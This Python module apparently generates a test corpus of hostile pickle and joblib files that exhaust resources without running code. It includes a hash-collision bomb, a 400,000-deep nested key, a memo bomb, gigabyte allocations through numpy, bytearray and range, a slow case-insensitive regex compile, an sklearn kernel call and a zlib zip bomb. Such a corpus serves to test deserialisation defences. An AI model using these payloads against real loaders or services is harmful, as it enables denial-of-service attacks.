"""Pickles that use up time, memory or the stack; none runs code."""

import io
import pickle
import re
import struct

import joblib
import numpy as np

from assembler import Code, Payload, build, call, new, put, whole

MANY = 2**31 - 1
LENGTH = {"length_scale": 1, "length_scale_bounds": "fixed"}
CALLS = [  # of what calculates, or only makes room
    ("numpy.ones", "an array of over a gigabyte", "numpy:ones", 180_000_000),
    (
        "fraction",
        "a number of a hundred million digits",
        "fractions:Fraction",
        "1e99999999",
    ),
    ("bytearray", "two gigabytes of zeros", "builtins:bytearray", MANY),
    (
        "range",
        "a list of two thousand million numbers",
        "builtins:list",
        call("builtins:range", MANY),
    ),
    ("ndarray", "an array of 16 GB", "numpy:ndarray", (MANY,), "f8"),
    (
        "regular expression",
        "slow to compile: all letters, without regard to case",
        "re:_compile",
        "[b-\U0010fffe]" * 2000,
        int(re.IGNORECASE | re.UNICODE),
    ),
]


def corpus():
    """Yield the Payloads."""

    def payload(title, about, data, effect="exhausted", suffix="pkl"):
        return Payload(title, "resources", about, data, effect, suffix)

    body = pickle.EMPTY_TUPLE + pickle.MEMOIZE
    for last in range(40):
        twice = 2 * (pickle.BINGET + bytes([last]))
        body += pickle.POP + twice + pickle.TUPLE2 + pickle.MEMOIZE
    data = whole(put({Code(body): None}))
    yield payload("hash bomb", "a dictionary key of 2**40 parts", data)
    deep = Code(pickle.EMPTY_TUPLE + pickle.TUPLE1 * 400_000)
    data = whole(put({deep: None}))
    yield payload("deep key", "a key nested 400,000 deep", data, "crashed")
    place = pickle.LONG_BINPUT + struct.pack("<I", 90_000_000)
    data = whole(pickle.NONE + place)
    yield payload("memo bomb", "9 bytes ask for over a gigabyte", data)
    for title, about, function, *arguments in CALLS:
        yield payload(title, about, whole(call(function, *arguments)))
    kernel = build(new("sklearn.gaussian_process.kernels:RBF"), LENGTH)
    rows = call("numpy:ndarray", (60_000, 1), "f8")
    data = whole(call(kernel, rows))
    yield payload("kernel", "an object is called, with 60,000 rows", data)
    file = io.BytesIO()
    joblib.dump(np.zeros(130_000_000), file, compress=("zlib", 1))
    about = "a small file, a gigabyte when unpacked"
    yield payload("zip bomb", about, file.getvalue(), suffix="joblib")
